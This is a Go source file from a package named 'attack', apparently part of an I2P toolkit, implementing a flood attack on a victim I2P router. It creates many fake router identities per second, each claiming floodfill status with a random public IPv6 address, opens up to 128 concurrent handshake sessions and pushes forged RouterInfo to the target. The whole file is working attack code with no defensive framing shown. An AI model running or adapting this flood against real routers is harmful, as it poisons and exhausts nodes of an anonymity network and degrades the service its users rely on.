package attack

import (
	"context"
	"crypto/rand"
	"net/netip"
	"time"

	"i2ptoolkit/pkg/i2np"
	"i2ptoolkit/pkg/routerinfo"
)

// Flood is new identities from one address: each says that it is a floodfill with an
// IPv6 address somewhere, connects, hands over its RouterInfo in the handshake, and
// leaves.
type Flood struct {
	Victim *routerinfo.RouterInfo
	Dial   dialFunc
	Rate   float64 // identities a second
	counts
}

// floodSessions is how many of a flood's identities are there at the same time.
const floodSessions = 128

// Run is Attack's.
func (f *Flood) Run(ctx context.Context) {
	pace(ctx, f.Rate, floodSessions, func() { f.outcome("identities", f.visit(ctx)) })
}

func (f *Flood) visit(ctx context.Context) error {
	id, err := NewIdentity(nil, "XfR", netip.AddrPortFrom(anywhere(), 20000))
	if err != nil {
		return err
	}
	s, err := OpenSession(ctx, f.Dial, id, f.Victim, false)
	if err != nil {
		return err
	}
	defer s.Close()
	s.conn.SetReadDeadline(time.Now().Add(handshakeTimeout))
	return s.Frame(func(i2np.Message) {}) // which says that the session stands
}

// anywhere is a random public IPv6 address.
func anywhere() netip.Addr {
	var b [16]byte
	rand.Read(b[:])
	b[0], b[1] = 0x24, b[1]|1
	return netip.AddrFrom16(b)
}
